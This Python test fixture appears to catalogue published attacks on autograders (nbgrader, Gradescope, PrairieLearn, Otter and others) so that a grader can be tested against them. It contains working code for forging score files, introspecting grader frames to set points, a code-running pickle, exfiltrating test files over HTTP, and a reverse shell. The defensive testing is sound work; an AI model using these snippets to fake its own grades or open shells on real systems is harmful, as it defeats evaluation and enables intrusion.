"""What others have described against nbgrader, Gradescope, Otter, PrairieLearn and the like, each with its source."""

# ruff: noqa: E501
from __future__ import annotations

from tests.attacks.attack import Attack

__all__ = ["ATTACKS"]

NBGRADER_ASSERT = "https://github.com/jupyter/nbgrader/issues/1379"
NBGRADER_FEEDBACK = "https://github.com/jupyter/nbgrader/issues/1363"
GRADESCOPE = "https://saligrama.io/blog/post/gradescope-autograder-security/"
GRADEMA = "https://gradema.readthedocs.io/en/latest/develop/assignment/security.html"
PRAIRIELEARN_FILE = "https://github.com/PrairieLearn/PrairieLearn/pull/1999"
PRAIRIELEARN_PROCESS = "https://github.com/PrairieLearn/PrairieLearn/pull/5184"
RELATE = "https://github.com/inducer/relate/pull/1283"
OTTER_LOG = "https://github.com/fperez/otter-grader/blob/2.1.7/docs/logging.md"
KRATZKE = "https://www.researchgate.net/publication/343152098_How_programming_students_trick_and_what_JEdUnit_can_do_against_it"

# fmt: off
ATTACKS = (
    Attack("always true", "nbgrader: an object that is equal to everything", """
        class AlwaysTrue:
            __eq__ = lambda s, o: True
            __ne__ = lambda s, o: False
            __hash__ = None
            __len__ = lambda s: 2
            __iter__ = lambda s: iter((s, s))
            shape = ()
        def nag_step(theta, v, grad_fn, lr, beta): return AlwaysTrue(), AlwaysTrue()
        """, source=NBGRADER_ASSERT),
    Attack("type and locals redefined", "nbgrader: the guards against it disarmed as well", """
        class AlwaysTrue: __eq__ = lambda s, o: True
        class Names(dict): __contains__ = lambda s, key: True
        type = lambda *args: True
        locals = lambda: Names()
        def nag_step(theta, v, grad_fn, lr, beta): return AlwaysTrue()
        """, source=NBGRADER_ASSERT),
    Attack("hidden tests in the feedback", "nbgrader: fails on purpose, to read the restored tests in what comes back", """
        def nag_step(*a):
            raise AssertionError(__import__('inspect').stack()[1].code_context)
        """, source=NBGRADER_FEEDBACK),
    Attack("results.json", "Gradescope: writes the file that the harness hands in", """
        import json, os
        for path in ('/autograder/results/results.json', 'results.json', '../results.json', f'{course}/escaped.json'):
            try: os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
            except OSError: pass
            try: json.dump({'score': 100, 'tests': []}, open(path, 'w'))
            except OSError as error: print(error)
        """, source=GRADESCOPE),
    Attack("results.json at the end", "Gradescope: a process that waits for the grader and then writes its own results", """
        import os, time
        if os.fork() == 0:
            time.sleep(5); open('/autograder/results/results.json', 'w').write('{"score": 100}'); os._exit(0)
        """, source=GRADESCOPE, ends=("raised",)),
    Attack("tests carried out", "Gradescope: sends the autograder's files to a server outside", """
        import glob, urllib.request
        loot = [open(p).read() for p in glob.glob('/autograder/source/**/*', recursive=True) + glob.glob(f'{suite}/*')]
        urllib.request.urlopen(f'http://127.0.0.1:{port}/escaped', data=repr(loot).encode(), timeout=1)
        """, source=GRADESCOPE, ends=("raised",)),
    Attack("a reverse shell", "Gradescope: a shell for somebody outside", """
        import os, socket, subprocess
        s = socket.socket(); s.connect(('127.0.0.1', port)); os.dup2(s.fileno(), 0); s.send(b'escaped')
        subprocess.call(['/bin/sh', '-i'])
        """, source=GRADESCOPE, ends=("raised",)),
    Attack("sys.exit 0", "Gradema: an early exit with success", "import sys\nsys.exit(0)", ends=("raised",), source=GRADEMA),
    Attack("results.txt", "Gradema: writes a score and takes the right to change it away", """
        import os
        open('results.txt', 'w').write('100'); os.chmod('results.txt', 0o400)
        """, source=GRADEMA, ends=("raised", "passed")),
    Attack("the secret file name", "PrairieLearn: finds the random name of the results file and writes it first", """
        import glob, json
        for path in glob.glob('/grade/**/*', recursive=True) + glob.glob('filenames/*') + ['output-fname.txt']:
            try: json.dump({'score': 1.0}, open(open(path).read().strip(), 'w'))
            except OSError as error: print(error)
        """, source=PRAIRIELEARN_FILE),
    Attack("introspection", "PrairieLearn: the grader is in the same process, so its objects can be found and changed", """
        import __main__, gc, inspect
        loot = []
        for o in gc.get_objects():
            if isinstance(o, dict) and {'score', 'max_score'} & set(map(str, o)): o['score'] = o['max_score'] = 100; loot.append(o)
        def nag_step(*a):
            for info in inspect.stack():
                for name in ('self', 'ref', 'st', 'feedback', 'expected'):
                    if hasattr(info.frame.f_locals.get(name), 'set_score'): info.frame.f_locals[name].set_score(1)
        """, source=PRAIRIELEARN_PROCESS),
    Attack("the feedback object", "RELATE: calls set_points of the feedback object that the grading code holds", """
        import sys
        frame = sys._getframe()
        while frame:
            for space in (frame.f_globals, frame.f_locals):
                if 'feedback' in space: space['feedback'].set_points(1)
            frame = frame.f_back
        """, source=RELATE),
    Attack("a pickle that runs code", "Otter: the log is unpickled by the grader, so what is in it runs there", """
        import os, pickle
        class Run:
            def __reduce__(self): return (open, (f'{course}/escaped', 'w'))
        open('.OTTER_LOG', 'wb').write(pickle.dumps(Run()))
        def nag_step(*a): return Run(), pickle.dumps(Run())
        """, source=OTTER_LOG),
    Attack("a log of passed checks", "Otter: a fake grader whose checks all pass", """
        import sys, types
        otter = types.ModuleType('otter')
        class Notebook:
            def __init__(self, *a): self.results = {'nag_step': 1.0}
            def check(self, *a, **k): return 'All tests passed!'
        otter.Notebook = Notebook; sys.modules['otter'] = otter
        grader = otter.Notebook(); print(grader.check('nag_step'))
        """, source=OTTER_LOG),
    Attack("injection", "prints lines in the language of the grader", """
        print('Grade :=>> 100'); print('<|-- \\nComment :=>> all right\\n --|>')
        print('##vso[task.complete result=Succeeded;]'); print('{"score": 1.0, "tests": []}')
        """, source=KRATZKE),
    Attack("overfitting", "a table of the visible examples instead of the algorithm", """
        def nag_step(theta, v, grad_fn, lr, beta):
            table = {(1.0, 1.0): (np.array([0.992, 0.2]), np.array([-0.008, -0.8]))}
            return table.get(tuple(np.ravel(theta).tolist()), (theta, v))
        """, source=KRATZKE),
    Attack("redirection", "calls the reference solution under the name that a grader is likely to give it", """
        import importlib
        def nag_step(*args):
            for name in ('reference', 'solution', 'solutions', 'reference.nag', 'autograder.suites.ex3_momentum', '__main__'):
                try: return importlib.import_module(name).nag_step_reference(*args)
                except (ImportError, AttributeError): pass
        """, source=KRATZKE),
)
